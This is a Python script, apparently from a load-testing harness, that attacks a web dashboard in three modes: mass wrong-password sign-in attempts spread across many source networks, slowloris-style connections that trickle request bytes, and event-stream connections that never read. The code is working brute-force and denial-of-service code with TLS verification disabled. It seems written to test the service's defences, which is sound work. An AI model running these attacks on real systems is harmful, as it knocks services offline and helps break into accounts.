#!/usr/bin/python3
"""What a dashboard that anybody may reach is attacked with: admin.py CASE RELAY PORT arguments…, while the attack goes on. At last "rate N".

	guess NETWORKS           wrong passwords, as many as go, from so many networks
	slow COUNT NETWORKS      COUNT connections that say a byte of a request now and then
	listen COUNT TOKEN       COUNT that want to hear events, and read none; who is sent away comes again
"""
import select
import socket
import ssl
import sys
import time

from attack import goes_on, ready, seconds, stranger

case, relay, port = sys.argv[1:4]
arguments = sys.argv[4:]
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
HOST = "%s:%s" % (relay, port)


class Connection:
	"""TLS, then the request; nothing of it waits."""

	def __init__(self, address, request, small=False):
		self.plain = socket.socket()
		self.plain.setblocking(False)
		if small:
			self.plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
		self.plain.bind((address, 0))
		self.plain.connect_ex((relay, int(port)))
		self.tls, self.request, self.answer = None, request, b""

	def turn(self):
		"""As far as it goes; OSError: it has ended."""
		if not self.tls:
			error = self.plain.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
			if error:
				raise OSError(error, "no connection")
			self.tls = context.wrap_socket(self.plain, do_handshake_on_connect=False)
		try:
			self.tls.do_handshake()
			if self.request:
				self.tls.send(self.request)
				self.request = None
			while True:
				piece = self.tls.recv(4096)
				if not piece:
					raise ConnectionError
				self.answer = (self.answer + piece)[:64]
		except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
			pass

	def close(self):
		(self.tls or self.plain).close()


class Crowd:
	def __init__(self, at_once, make):
		self.at_once, self.make = at_once, make
		self.look, self.held, self.opened, self.answers = select.epoll(), {}, 0, {}

	def fill(self):
		for _ in range(min(40, self.at_once - len(self.held))):
			c = self.make(self.opened)
			self.opened += 1
			self.held[c.plain.fileno()] = c
			self.look.register(c.plain.fileno(), select.EPOLLIN | select.EPOLLOUT | select.EPOLLET)

	def end(self, fd):
		c = self.held.pop(fd)
		said = c.answer[9:12].decode("latin-1") or "none"
		self.answers[said] = self.answers.get(said, 0) + 1
		self.look.unregister(fd)
		c.close()

	def turn(self):
		self.fill()
		for fd, _ in self.look.poll(0.02, 500):
			try:
				self.held[fd].turn()
			except OSError:
				self.end(fd)


def guess(networks):
	def make(i):
		body = b'{"password": "guess%d"}' % i
		return Connection(stranger(i % int(networks)), b"POST /signin HTTP/1.1\r\nHost: %s\r\nOrigin: https://%s\r\nContent-Type: application/json\r\n"
			b"Content-Length: %d\r\n\r\n" % (HOST.encode(), HOST.encode(), len(body)) + body)
	crowd = Crowd(200, make)
	is_high = False
	while goes_on() or not is_high:
		crowd.turn()
		if not is_high and (sum(crowd.answers.values()) >= 300 or seconds() > 20):
			is_high = True
			ready()
	print("answers", crowd.answers)
	return sum(crowd.answers.values()) / seconds()


def slow(count, networks):
	crowd = Crowd(int(count), lambda i: Connection(stranger(i % int(networks)), b"GET /api/v1/status HTTP/1.1\r\nX-Slow: "))
	is_high, said = False, 0
	while goes_on() or not is_high:
		crowd.turn()
		if seconds() - said > 1:
			said = seconds()
			for fd, c in list(crowd.held.items()):
				if c.tls and not c.request:
					try:
						c.tls.send(b"x")
					except OSError:
						pass
		if not is_high and (crowd.opened >= 2 * int(count) or seconds() > 20):
			is_high = True
			ready()
	print("answers", crowd.answers)
	return crowd.opened / seconds()


def listen(count, token):
	request = b"GET /api/v1/events HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n" % (HOST.encode(), token.encode())

	def make(i):
		return Connection(stranger(i % 200), request, small=True)
	crowd = Crowd(int(count), make)
	is_high = False
	while goes_on() or not is_high:
		crowd.turn()
		if not is_high and (crowd.opened >= 2 * int(count) or seconds() > 20):
			is_high = True
			ready()
	print("answers", crowd.answers)
	return crowd.opened / seconds()


print("rate %d" % globals()[case](*arguments))
